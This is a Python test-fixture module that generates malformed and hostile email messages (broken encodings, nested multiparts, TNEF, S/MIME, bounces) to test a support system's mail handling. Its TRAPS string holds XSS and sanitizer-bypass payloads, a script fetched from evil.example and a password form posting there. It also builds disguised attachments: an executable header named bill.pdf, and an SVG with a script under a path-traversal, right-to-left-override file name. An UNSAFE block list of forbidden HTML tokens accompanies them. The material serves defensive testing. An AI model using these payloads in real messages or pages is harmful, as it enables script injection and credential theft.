"""Hard messages for the room of mail, made here byte by byte: broken encodings, machines, winmail.dat,
S/MIME, HTML with traps. Each function returns the bytes of a message as a server would hand it over."""

import base64
import struct
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage, Message
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import pkcs7
from cryptography.x509.oid import NameOID

SUPPORT = "support@provider.example"

# What a page may not hold after it was made safe, in small letters, in any message of this file.
UNSAFE = (
    "<script", "javascript:", "vbscript:", " onerror", " onload", " onclick", "<img", "<iframe", "<object",
    "<form", "<input", "<svg", "<style", "<meta", "<link", "<base", "style=", "srcdoc", "data:text", "<math",
    "<video",
)  # fmt: skip

TRAPS = """<html><head><base href="https://evil.example/"><style>body{display:none}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example"><title>x</title></head>
<body onload="alert(1)">
<p style="position:fixed;top:0">Our printer jams since Monday.</p>
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><img src=x onerror=alert(2)>
<img src="https://tracker.example/pixel.gif?who=jane" alt="logo"><a href="javascript:alert(3)">click</a>
<a href="&#106;avascript:alert(4)">again</a><a href="https://bank.example@evil.example/">bank.example</a>
<svg><script>alert(5)</script></svg><svg/onload=alert(6)><math><mtext><table><mglyph>
<style><img src=x onerror=alert(7)>
</style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript>
<form action="https://evil.example"><input name=password><button>Sign in</button></form>
<iframe srcdoc="<script>alert(9)</script>"></iframe>
<object data="data:text/html,<script>alert(10)</script>"></object>
<!--><img src=x onerror=alert(11)>--><div title='"><script>alert(12)</script>'>The end.</div></body></html>"""


def plain(
    sender: str, subject: str, text: str, *, to: str = SUPPORT, name: str = "", **headers: str
) -> bytes:
    """A message as a mail program writes it. `headers`: others, `_` for `-`."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, to, subject
    message["Message-ID"] = f"<{name or abs(hash((sender, subject, text)))}@client.example>"
    for header, value in headers.items():
        message[header.replace("_", "-")] = value
    message.set_content(text)
    return message.as_bytes()


def raw(head: str | bytes, body: bytes = b"") -> bytes:
    """A message from a head as it stands (lines of it end with LF) and the bytes of its body."""
    data = head.encode("utf-8") if isinstance(head, str) else head
    return (data.strip() + b"\n\n" + body).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def head(
    sender: str, subject: str, name: str, *, kind: str = "text/plain; charset=utf-8", more: str = ""
) -> str:
    """The head of a message that `raw` completes."""
    return (
        f"From: {sender}\nTo: {SUPPORT}\nSubject: {subject}\nMessage-ID: <{name}@client.example>\n"
        f"MIME-Version: 1.0\nContent-Type: {kind}\n{more}"
    )


def split_word(sender: str, name: str) -> bytes:
    """Encoded words that cut a letter of UTF-8 in two, which many programs send, and text in KOI8-R."""
    letters = "Принтер не печатает".encode()
    words = " ".join(f"=?utf-8?B?{base64.b64encode(one).decode()}?=" for one in (letters[:11], letters[11:]))
    kind = "text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit"
    return raw(head(sender, words, name, kind=kind), "Здравствуйте, принтер молчит.".encode("koi8-r"))


def wrong_charset(sender: str, name: str) -> bytes:
    """Eight-bit letters of cp1252 in the subject and in a text that says it is ASCII."""
    said = head(sender, "SUBJECT", name, kind="text/plain; charset=us-ascii").encode()
    return raw(said.replace(b"SUBJECT", "Zähler läuft rückwärts".encode("cp1252")),
               "Der Zähler läuft rückwärts – seit gestern.".encode("cp1252"))  # fmt: skip


def unknown_charset(sender: str, name: str) -> bytes:
    """A charset that does not exist, base64 with rubbish in it and without its end."""
    body = base64.b64encode("Das Gerät piept.".encode())[:-2].replace(b"G", b"G\n!", 1)
    kind = 'text/plain; charset="x-klingon"\nContent-Transfer-Encoding: base64'
    return raw(head(sender, "=?x-klingon?Q?Ger=C3=A4t_piept?=", name, kind=kind), body)


def no_end(sender: str, name: str) -> bytes:
    """A multipart whose boundary is never closed, with a part that has no head."""
    body = b"--b\n\nThe lights of the switch are out.\n--b\n"
    body += b'Content-Type: application/octet-stream; name="a.bin"\n'
    return raw(
        head(sender, "Switch is dark", name, kind='multipart/mixed; boundary="b"'), body + b"\n\x00\x01\x02"
    )


def russian_doll(sender: str, name: str, depth: int = 300) -> bytes:
    """A multipart in a multipart in a multipart."""
    body = b"".join(
        b'--b%d\nContent-Type: multipart/mixed; boundary="b%d"\n\n' % (at, at + 1) for at in range(depth)
    )
    return raw(head(sender, "A doll", name, kind='multipart/mixed; boundary="b0"'), body + b"in the middle")


def trapped(sender: str, name: str) -> bytes:
    """HTML that wants to run, to load, to look like our page; and files that are not what they say."""
    message = EmailMessage()
    message["From"], message["To"] = sender, SUPPORT
    message["Subject"], message["Message-ID"] = (
        "<script>alert('subject')</script> jam",
        f"<{name}@client.example>",
    )
    message.set_content(TRAPS, subtype="html")
    message.add_attachment(
        b"MZ\x90\x00" + b"\0" * 60, maintype="application", subtype="pdf", filename="bill.pdf"
    )
    message.add_attachment(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
                           maintype="image", subtype="png", filename="../etc/logo\u202egnp.svg")  # fmt: skip
    message.add_attachment(png(), maintype="image", subtype="png", filename="jam.png")
    return message.as_bytes()


def png() -> bytes:
    """A picture of one pixel."""
    return base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
    )


def invitation(sender: str, name: str, *, method: str = "REQUEST") -> bytes:
    """A calendar's invitation, or an answer to one."""
    event = (
        f"BEGIN:VCALENDAR\r\nPRODID:-//Example//EN\r\nVERSION:2.0\r\nMETHOD:{method}\r\nBEGIN:VEVENT\r\nUID:{name}\r\n"
        "DTSTART:20261201T090000Z\r\nDTEND:20261201T100000Z\r\nSUMMARY:Move the server\r\n  room\r\n"
        f"ORGANIZER:mailto:{sender}\r\nLOCATION:Basement\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    both = MIMEMultipart("alternative")
    both["From"], both["To"], both["Message-ID"] = sender, SUPPORT, f"<{name}@client.example>"
    both["Subject"] = "Move the server room" if method == "REQUEST" else "Accepted: Move the server room"
    both.attach(MIMEText("We would like to move the server room.", "plain"))
    calendar = MIMEText(event, "calendar", "utf-8")
    calendar.set_param("method", method)
    both.attach(calendar)
    return both.as_bytes()


def bounce(of: str, name: str, *, to: str) -> bytes:
    """A server says that the message with the identifier `of` (with brackets) did not arrive."""
    report = MIMEMultipart("report", **{"report-type": "delivery-status"})
    report["From"], report["To"] = "MAILER-DAEMON@mx.bramble.example", to
    report["Subject"], report["Message-ID"] = (
        "Undelivered Mail Returned to Sender",
        f"<{name}@mx.bramble.example>",
    )
    report["Auto-Submitted"] = "auto-replied"
    report.attach(MIMEText("This is the mail system.", "plain"))
    status = Message()
    status["Content-Type"] = "message/delivery-status"
    about, whom = Message(), Message()
    about["Reporting-MTA"] = "dns; mx.bramble.example"
    whom["Final-Recipient"], whom["Action"], whom["Status"] = (
        "rfc822; jane@bramble.example",
        "failed",
        "5.2.2",
    )
    whom["Diagnostic-Code"] = "smtp; 552 5.2.2 mailbox is full"
    status.set_payload([about, whom])
    report.attach(status)
    back = Message()
    back["Content-Type"] = "message/rfc822"
    returned = Message()
    returned["Message-ID"], returned["Subject"] = of, "Re: something"
    returned.set_payload("returned")
    back.set_payload([returned])
    report.attach(back)
    return report.as_bytes()


def winmail(sender: str, name: str) -> bytes:
    """Outlook's winmail.dat with a text and a file in it."""
    outer = MIMEMultipart("mixed")
    outer["From"], outer["To"], outer["Subject"] = sender, SUPPORT, "Report from Outlook"
    outer["Message-ID"] = f"<{name}@client.example>"
    outer.attach(MIMEText("", "plain"))
    outer.attach(
        MIMEApplication(
            tnef("The till froze at noon.", "till.csv", b"a;b\r\n1;2\r\n"), "ms-tnef", name="winmail.dat"
        )
    )
    return outer.as_bytes()


def tnef(text: str, name: str, data: bytes) -> bytes:
    """A TNEF stream. Source: MS-OXTNEF 2.1 (signature, key, objects with level, identifier, length, sum)."""

    def thing(level: int, identifier: int, content: bytes) -> bytes:
        return (
            struct.pack("<BII", level, identifier, len(content))
            + content
            + struct.pack("<H", sum(content) & 0xFFFF)
        )

    rendering = struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0x20, 0x20, 0)
    return struct.pack("<IH", 0x223E9F78, 1) + b"".join((
        thing(1, 0x00089006, struct.pack("<I", 0x00010000)),
        thing(1, 0x00069007, struct.pack("<II", 1252, 0)),
        thing(1, 0x0002800C, text.encode("cp1252") + b"\0"),
        thing(2, 0x00069002, rendering),
        thing(2, 0x00018010, name.encode("cp1252") + b"\0"),
        thing(2, 0x0006800F, data),
    ))  # fmt: skip


def signed(sender: str, name: str, text: str, *, opaque: bool = False, encrypted: bool = False) -> bytes:
    """An S/MIME message: signed beside its text, signed around it (`opaque`), or encrypted."""
    key, certificate = _identity(sender)
    inner = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n".encode()
    top = f"From: {sender}\r\nTo: {SUPPORT}\r\nSubject: Signed words\r\n".encode()
    top += f"Message-ID: <{name}@client.example>\r\n".encode()
    if encrypted:
        made = pkcs7.PKCS7EnvelopeBuilder().set_data(inner).add_recipient(certificate)
        return top + made.encrypt(serialization.Encoding.SMIME, [pkcs7.PKCS7Options.Binary])
    builder = pkcs7.PKCS7SignatureBuilder().set_data(inner).add_signer(certificate, key, hashes.SHA256())
    if not opaque:
        return top + builder.sign(serialization.Encoding.SMIME, [pkcs7.PKCS7Options.DetachedSignature])
    envelope = base64.encodebytes(builder.sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary]))
    return top + (
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + envelope
    )


def _identity(sender: str) -> tuple[rsa.RSAPrivateKey, x509.Certificate]:
    key = rsa.generate_private_key(65537, 2048)
    subject = x509.Name([x509.NameAttribute(NameOID.EMAIL_ADDRESS, sender)])
    now = datetime.now(UTC)
    builder: Any = x509.CertificateBuilder().subject_name(subject).issuer_name(subject)
    builder = builder.public_key(key.public_key()).serial_number(x509.random_serial_number())
    builder = builder.not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=9))
    return key, builder.sign(key, hashes.SHA256())


def large(sender: str, name: str, *, size: int) -> bytes:
    """A message of about `size` bytes, nearly all of it one file."""
    body = base64.b64encode(bytes(range(256)) * (size * 3 // 4 // 256))
    lines = b"\r\n".join(body[at : at + 76] for at in range(0, len(body), 76))
    first = b"--b\nContent-Type: text/plain\n\nHere is the scan of the whole ledger.\n--b\n"
    kind = b'Content-Type: application/octet-stream; name="ledger.tif"\nContent-Transfer-Encoding: base64\n\n'
    start = raw(head(sender, "The ledger", name, kind='multipart/mixed; boundary="b"'), first + kind)
    return start + lines + b"\r\n--b--\r\n"


def round_trip(sender: str, name: str, *, hops: int) -> bytes:
    """A message that went through `hops` servers."""
    received = "".join(
        f"Received: from a{at} by b{at}; Mon, 23 Nov 2026 10:00:00 +0000\n" for at in range(hops)
    )
    return raw(received + head(sender, "Round and round", name), b"I am on my way.")
